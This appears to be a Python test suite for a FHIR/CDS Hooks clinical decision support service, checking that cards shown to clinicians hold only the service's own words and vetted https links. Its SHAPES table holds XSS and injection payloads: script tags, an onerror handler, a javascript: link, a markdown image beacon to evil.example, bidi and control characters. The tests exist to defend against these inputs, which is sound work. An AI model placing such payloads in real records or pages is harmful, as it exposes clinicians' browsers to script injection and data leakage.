"""What reaches the clinician's screen: our own words, numbers and dates, whatever a record says (rows 35 and 36)."""

import copy
import json
import re
import unittest
from collections.abc import Iterator
from typing import Any

from attack import Attack  # first: it makes the test tools importable
from hook_body import with_all_data
from service import ROOT, TESTS
from test_request import places

from conformance import check_response  # noqa: I001
from hook_request import Mode, hook_request
from patient_record import PatientRecord

CANARY = "canary"
# Each shape of text that does something when a card is shown; all hold the canary.
SHAPES = {
    "a script": "<script>canary()</script>",
    "an image": '<img src=x onerror="canary()">',
    "a frame": '<iframe srcdoc="<script>canary()</script>"></iframe>',
    "a link": "[canary](javascript:canary())",
    "a beacon": "![canary](http://evil.example/?canary)",
    "a table": "| canary |\n| --- |\n| canary |",
    "a heading": "# canary\n\n> canary\n\n```\ncanary",
    "an address": "https://evil.example/canary",
    "right to left": "\u202ecanary\u2066\u2069",
    "zero width": "\u200bcanary\u200d\ufeff",
    "a quotation": "\"canary'`\\ \u2028",
    "a placeholder": "{{canary}} ${canary} %scanary {canary}",
    "controls": "\x1b[31mcanary\x07\b\r\n",
    "long": "canary" * 1_700,
}
ALL_SHAPES = " ".join(SHAPES.values())
# What FHIR and CDS Hooks have for people to read and write in, wherever it stands.
FREE_TEXT = ("display", "text", "comment", "note", "description", "title", "family", "div", "city", "reasonText",
             "patientInstruction", "conclusion", "userId", "label")


class Screen(Attack):

    @classmethod
    def setUpClass(cls) -> None:
        super().setUpClass()
        cls.order_sign = cls.service.order_sign()

    @classmethod
    def tearDownClass(cls) -> None:
        assert CANARY not in cls.service.output(), "the log holds a canary"

    def send(self, body: Any) -> Any:
        """The cards, or None if there are none; nothing of the canary is in any answer."""
        answer = self.call(body)
        self.assertNotIn(CANARY, answer.text + str(answer.headers))
        if answer.status != 200:
            self.assert_refusal(answer, 400, 412)
            return None
        self.assertEqual(check_response(answer.body, body, [CANARY]), [])
        return answer.body["cards"]

    def test_row_35_free_text_of_each_shape(self) -> None:
        """All of it at once: the cards are those of any other words that say nothing."""
        for name in ("V01", "V03", "V12", "V22", "V57"):
            body = with_all_data(self.order_sign, name)
            expected = self.send(with_free_text(copy.deepcopy(body), "word"))
            for what, shape in SHAPES.items():
                with self.subTest(name, shape=what):
                    self.assertEqual(self.send(with_free_text(copy.deepcopy(body), shape)), expected)

    def test_row_35_every_string_in_turn(self) -> None:
        """Codes, systems, ids, dates and URLs, too: refused, or of no trace."""
        body = with_all_data(self.order_sign, "V12")
        for key, value in body["prefetch"].items():
            if value and "entry" in value:
                body["prefetch"][key] = {"resourceType": "Bundle", "type": "searchset", "entry": value["entry"][:3]}
        answered = 0
        for path, holder, key in list(places(body)):
            if isinstance(holder[key], str):
                original = holder[key]
                holder[key] = ALL_SHAPES
                with self.subTest(path):
                    answered += self.send(body) is not None
                holder[key] = original
        self.assertGreater(answered, 50)

    def test_row_35_names_of_members(self) -> None:
        body = with_all_data(self.order_sign)
        strange = {ALL_SHAPES: {ALL_SHAPES: [ALL_SHAPES]}}
        expected = self.send(body)
        self.assertEqual(self.send(body | strange | {"prefetch": body["prefetch"] | strange, "extension": strange}),
            expected)

    def test_row_35_suggestions_hold_our_own_words(self) -> None:
        """But for ids, whatever a suggested order says is the same for every patient."""
        texts: dict[str, set[str]] = {}
        for body, card in self.cards_of_all_patients():
            for suggestion in card.get("suggestions", []):
                for action in suggestion["actions"]:
                    resource = action["resource"]
                    self.assertEqual(resource["subject"], {"reference": f"Patient/{body['context']['patientId']}"})
                    fixed = {name: value for name, value in resource.items() if name not in ("subject", "encounter")}
                    texts.setdefault(suggestion["label"], set()).add(json.dumps(fixed, sort_keys=True))
        self.assertGreater(len(texts), 2)
        for label, versions in texts.items():
            self.assertEqual(len(versions), 1, label)

    def test_row_36_links(self) -> None:
        """Absolute, https, and written in the guideline files."""
        folder = ROOT / "rules/guideline"
        written = "".join(file.read_text(encoding="utf-8") for file in folder.rglob("*.json"))
        seen = set()
        for _, card in self.cards_of_all_patients():
            seen |= {link["url"] for link in card.get("links", [])} | set(
                re.findall(r"[a-z][a-z0-9+.-]*://[^\s)\"\\<>]+", json.dumps(card.get("links", [])) + card["detail"]))
            seen |= {url for url in (card["source"].get("url"), card["source"].get("icon")) if url}
            for _, target in re.findall(r"\[([^\]]*)\]\(([^)]*)\)", card["detail"]):
                seen.add(target)
            self.assertEqual({link["type"] for link in card.get("links", [])} - {"absolute"}, set())
        self.assertGreater(len(seen), 0)
        for url in seen:
            self.assertTrue(url.startswith("https://"), url)
            self.assertIn(f'"{url}"', written)

    def cards_of_all_patients(self) -> Iterator[tuple[Any, Any]]:
        for file in sorted((TESTS / "patients").glob("V*.json")):
            body = hook_request(self.order_sign, PatientRecord.load(file), mode=Mode.FULL)
            for card in self.call(body).body["cards"]:
                yield body, card


def with_free_text(value: Any, shape: str) -> Any:
    """The value with this text in all of its free text, and with free text in each of its resources."""
    if isinstance(value, list):
        return [with_free_text(item, shape) for item in value]
    if not isinstance(value, dict):
        return value
    changed = {name: shape if name in FREE_TEXT and isinstance(member, str) else with_free_text(member, shape)
               for name, member in value.items()}
    if "resourceType" in changed and changed["resourceType"] not in ("Bundle", "Medication", "MedicationRequest"):
        changed |= {"text": {"status": "generated", "div": shape}, "implicitRules": shape, "language": shape}
    if changed.get("resourceType") == "Patient":
        changed |= {"name": [{"family": shape, "given": [shape]}], "address": [{"text": shape, "city": shape}],
                    "telecom": [{"value": shape}], "identifier": [{"value": shape}],
                    "contact": [{"name": {"text": shape}}]}
    return changed


if __name__ == "__main__":
    unittest.main()
